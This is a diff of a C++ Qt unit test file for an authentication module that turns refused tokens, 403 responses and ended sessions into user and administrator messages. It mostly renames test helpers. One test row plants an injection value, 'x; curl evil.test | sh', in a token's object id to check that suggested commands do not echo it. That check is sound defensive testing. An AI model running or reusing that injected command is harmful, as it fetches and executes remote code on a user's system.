@@ -1,5 +1,5 @@
 #include "auth/session/refusal.h"
-#include "support/holding.h"
+#include "support/scriptedsession.h"
 
 #include <QJsonArray>
 #include <QTest>
@@ -13,13 +13,13 @@ const QString Oid = u"9f1c2d3e-0000-4000-8000-0123456789ab"_s;
 QJsonObject claims(const QJsonValue &aud)
 {
     return {{u"aud"_s, aud}, {u"iss"_s, u"https://sts.windows.net/t/"_s}, {u"ver"_s, u"1.0"_s},
-        {u"tid"_s, signing::Tenant}, {u"oid"_s, Oid}, {u"scp"_s, u"user_impersonation"_s},
+        {u"tid"_s, service::Tenant}, {u"oid"_s, Oid}, {u"scp"_s, u"user_impersonation"_s},
         {u"roles"_s, QJsonArray{u"globalReader"_s, u"other"_s}}};
 }
 
-auth::SignInResult held(const QJsonValue &aud = signing::Base)
+auth::SignInResult held(const QJsonValue &aud = service::Base)
 {
-    auto result = holding::signedIn(signing::jwt(claims(aud)).toUtf8(), "refresh1");
+    auto result = scripted::signedIn(service::jwt(claims(aud)).toUtf8(), "refresh1");
     result.identity.account = u"jane@contoso.example"_s;
     result.identity.subject = Oid;
     return result;
@@ -28,9 +28,9 @@ auth::SignInResult held(const QJsonValue &aud = signing::Base)
 /** What an administrator needs, whatever went wrong. */
 bool hasFacts(const QString &details, const QString &aud)
 {
-    const QStringList facts{u"Server: "_s + signing::Base, auth::powerBiClient().id, u"Tenant: "_s + signing::Tenant,
-        u"Audience: "_s + signing::Base, u"aud: "_s + aud, u"iss: https://sts.windows.net/t/"_s, u"ver: 1.0"_s,
-        u"tid: "_s + signing::Tenant, u"oid: "_s + Oid, u"scp: user_impersonation"_s, u"roles: globalReader other"_s};
+    const QStringList facts{u"Server: "_s + service::Base, auth::powerBiClient().id, u"Tenant: "_s + service::Tenant,
+        u"Audience: "_s + service::Base, u"aud: "_s + aud, u"iss: https://sts.windows.net/t/"_s, u"ver: 1.0"_s,
+        u"tid: "_s + service::Tenant, u"oid: "_s + Oid, u"scp: user_impersonation"_s, u"roles: globalReader other"_s};
     return std::ranges::all_of(facts, [&](const QString &fact) { return details.contains(fact); });
 }
 
@@ -61,18 +61,18 @@ void RefusalTest::token_data()
     const QByteArray invalid = "Bearer error=\"invalid_token\", error_description=\"The audience is invalid\"";
     const QString generic = u"https://azurehealthcareapis.com"_s;
     QTest::newRow("audience, as the server says")
-        << invalid << QJsonValue(signing::Base) << u"The audience is invalid"_s << u"what the server expects"_s;
+        << invalid << QJsonValue(service::Base) << u"The audience is invalid"_s << u"what the server expects"_s;
     QTest::newRow("token for another audience")
         << invalid << QJsonValue(generic) << u"The audience is invalid"_s << u"The token is for "_s + generic;
     QTest::newRow("token for two audiences")
         << invalid << QJsonValue(QJsonArray{generic, u"x"_s}) << u"The audience is invalid"_s
         << u"The token is for "_s + generic + u" x"_s;
-    QTest::newRow("without a challenge") << QByteArray() << QJsonValue(signing::Base) << u"does not accept the token"_s
+    QTest::newRow("without a challenge") << QByteArray() << QJsonValue(service::Base) << u"does not accept the token"_s
                                          << u"Your administrator"_s;
-    QTest::newRow("with Basic alone") << QByteArray("Basic realm=\"x\"") << QJsonValue(signing::Base)
+    QTest::newRow("with Basic alone") << QByteArray("Basic realm=\"x\"") << QJsonValue(service::Base)
                                       << u"does not accept the token"_s << u"Your administrator"_s;
     QTest::newRow("permission missing") << QByteArray("Bearer error=insufficient_scope, scope=\"patient/*.read\"")
-                                        << QJsonValue(signing::Base) << u"does not accept the token"_s
+                                        << QJsonValue(service::Base) << u"does not accept the token"_s
                                         << u"allow the client"_s;
 }
 
@@ -85,7 +85,7 @@ void RefusalTest::token()
     const auto result = held(aud);
     const auto spoken = auth::tokenRefused(result, challenge);
     QVERIFY2(spoken.what.contains(says), qPrintable(spoken.what));
-    QVERIFY(spoken.what.contains(u"login.microsoftonline.com"_s) && spoken.what.contains(signing::Base));
+    QVERIFY(spoken.what.contains(u"login.microsoftonline.com"_s) && spoken.what.contains(service::Base));
     QVERIFY2(spoken.action.contains(advises), qPrintable(spoken.action));
     QVERIFY2(hasFacts(spoken.details, aud.isArray() ? u"https://azurehealthcareapis.com x"_s : aud.toString()),
         qPrintable(spoken.details));
@@ -98,13 +98,13 @@ void RefusalTest::access_data()
     QTest::addColumn<bool>("entra");
     QTest::addColumn<QByteArray>("access");
     QTest::addColumn<QString>("advises");
-    const QByteArray jwt = signing::jwt(claims(signing::Base)).toUtf8();
+    const QByteArray jwt = service::jwt(claims(service::Base)).toUtf8();
     QTest::newRow("Entra") << true << jwt << u"--assignee "_s + Oid;
     QTest::newRow("Entra, a token that says nothing") << true << QByteArray("opaque") << u"--assignee "_s + Oid;
-    auto hostile = claims(signing::Base);
+    auto hostile = claims(service::Base);
     hostile[u"oid"_s] = u"x; curl evil.test | sh"_s;
     QTest::newRow("Entra, an object id that is a command")
-        << true << signing::jwt(hostile).toUtf8() << u"give jane@contoso.example a role"_s;
+        << true << service::jwt(hostile).toUtf8() << u"give jane@contoso.example a role"_s;
     QTest::newRow("another service") << false << QByteArray("opaque") << u"for jane@contoso.example"_s;
 }
 
@@ -122,7 +122,7 @@ void RefusalTest::access()
     QVERIFY(spoken.action.contains(u"jane@contoso.example"_s));
     QCOMPARE(spoken.action.contains(u"az role assignment create"_s), advises.startsWith("--assignee"_L1));
     QVERIFY(!spoken.action.contains(u"curl"_s));
-    QVERIFY(spoken.details.contains(u"HTTP 403"_s) && spoken.details.contains(signing::Base));
+    QVERIFY(spoken.details.contains(u"HTTP 403"_s) && spoken.details.contains(service::Base));
 }
 
 void RefusalTest::ended_data()
@@ -151,13 +151,13 @@ void RefusalTest::ended()
 {
     QFETCH(QByteArray, body);
     QFETCH(QString, says);
-    holding::Holding holding(held());
-    holding.say(400, body);
-    holding.clock.pass(std::chrono::minutes(58));
-    const auto slot = holding.token();
+    scripted::ScriptedSession running(held());
+    running.say(400, body);
+    running.clock.pass(std::chrono::minutes(58));
+    const auto slot = running.token();
     QTRY_VERIFY(slot->has_value());
     QVERIFY(!**slot);
-    QCOMPARE((*slot)->error().kind, holding::Kind::SignInNeeded);
+    QCOMPARE((*slot)->error().kind, scripted::Kind::SignInNeeded);
     const auto spoken = (*slot)->error().spoken;
     QVERIFY(spoken);
     QVERIFY2(spoken->what.contains(says), qPrintable(spoken->what));
@@ -179,16 +179,16 @@ void RefusalTest::wordsComeWithTheAnswer()
 {
     QFETCH(int, status);
     QFETCH(QString, says);
-    holding::Holding holding(held());
-    const QUrl patient(signing::Base + u"/Patient"_s);
-    holding.network.standing.insert(
+    scripted::ScriptedSession running(held());
+    const QUrl patient(service::Base + u"/Patient"_s);
+    running.network.standing.insert(
         patient.toString(), {"GET", patient, status, "{}", {{"WWW-Authenticate", "Bearer error=\"invalid_token\""}}});
-    holding.sayTokens(u"second"_s, u"refresh2"_s);
-    holding.client.setTokens(std::shared_ptr<http::TokenSource>(holding.session.get(), [](auto *) {}));
+    running.sayTokens(u"second"_s, u"refresh2"_s);
+    running.client.setTokens(std::shared_ptr<http::TokenSource>(running.session.get(), [](auto *) {}));
     http::Request request;
     request.url = patient;
     std::optional<http::Result<http::Client::Whole>> came;
-    QCoro::connect(holding.client.fetch(request, {}), &holding.context, [&](const auto &whole) { came = whole; });
+    QCoro::connect(running.client.fetch(request, {}), &running.context, [&](const auto &whole) { came = whole; });
     QTRY_VERIFY(came.has_value());
     QVERIFY(came->has_value());
     QCOMPARE((*came)->head.status, status);
@@ -196,7 +196,7 @@ void RefusalTest::wordsComeWithTheAnswer()
     QCOMPARE(spoken ? !says.isEmpty() : says.isEmpty(), true);
     if (spoken)
         QVERIFY2(spoken->what.contains(says), qPrintable(spoken->what));
-    holding.client.setTokens({});
+    running.client.setTokens({});
 }
 
 QTEST_GUILESS_MAIN(RefusalTest)
